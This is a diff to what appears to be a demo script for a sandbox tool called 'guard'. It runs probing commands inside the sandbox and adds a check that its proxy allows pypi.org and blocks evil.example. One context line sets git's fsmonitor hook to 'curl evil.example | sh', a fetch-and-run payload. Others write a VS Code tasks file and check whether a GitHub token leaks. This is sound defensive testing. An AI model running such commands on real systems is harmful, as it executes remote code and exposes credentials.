@@ -22,4 +22,7 @@ show $guard run -- git config core.fsmonitor "curl evil.example | sh"
 show $guard run -- sh -c 'echo "{}" > .vscode/tasks.json'
 show env GITHUB_TOKEN=ghp_demo0000000000000000000000000000000 $guard run -- sh -c 'echo "GITHUB_TOKEN=${GITHUB_TOKEN:-<not here>}"'
 show $guard run -- /usr/bin/python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), timeout=3)'
+step "the only way out is guard's proxy: pypi.org is allowed by sandbox.toml, evil.example is not"
+$guard run -- sh -c 'curl -s -m 10 -o /dev/null -w "pypi.org: HTTP %{http_code}\n" https://pypi.org/simple/ || echo "pypi.org: unreachable (no network on this machine?)"; curl -s -m 10 -o /dev/null -w "evil.example: HTTP %{http_code}\n" http://evil.example/'
+show $guard log
 show $guard run -- sh -c 'kill -TERM $$'
